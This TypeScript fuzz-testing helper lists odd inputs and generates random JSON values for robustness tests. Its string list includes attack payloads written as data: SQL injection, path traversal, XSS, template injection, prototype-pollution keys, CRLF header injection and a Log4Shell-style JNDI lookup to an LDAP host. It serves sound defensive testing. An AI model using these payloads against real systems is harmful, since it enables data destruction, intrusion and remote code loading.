import { oneOf, type Random } from "./random";

/** Texts that something may trip over. */
export const oddTexts = [
  "",
  " ",
  "general",
  "..",
  "../../control/snapshot",
  "%2e%2e%2f",
  "'; drop table api_key; --",
  '" or 1=1 --',
  "\u0000",
  "\ud800",
  "\u202egnp.exe",
  "\ufeff",
  "e\u0301\u{1f469}\u200d\u{1f4bb}",
  "é".repeat(200),
  "x".repeat(5_000),
  "__proto__",
  "constructor",
  "<script>alert(1)</script>",
  "-1",
  "1e999",
  "null",
  "0123456789abcdef01234567",
  "<<@0123456789abcdef01234567>>",
  "{{7*7}}",
  "$\u007bjndi:ldap://example.com}",
  "\r\nx-injected: 1",
];
const oddNumbers = [0, -1, 1.5, 2 ** 53, 1e308, -0, 4_000_000_000_001];

/** Any JSON value, seldom one that is wanted. */
export function oddValue(random: Random, depth = 0): unknown {
  const pick = Math.floor(random() * (depth > 3 ? 6 : 8));
  if (pick <= 2) return oneOf(random, oddTexts);
  if (pick === 3) return oneOf(random, oddNumbers);
  if (pick === 4) return random() < 0.5;
  if (pick === 5) return null;
  if (pick === 6) return Array.from({ length: Math.floor(random() * 4) }, () => oddValue(random, depth + 1));
  const entries = Array.from({ length: Math.floor(random() * 4) }, () => [
    oneOf(random, oddTexts),
    oddValue(random, depth + 1),
  ]);
  return Object.fromEntries(entries);
}
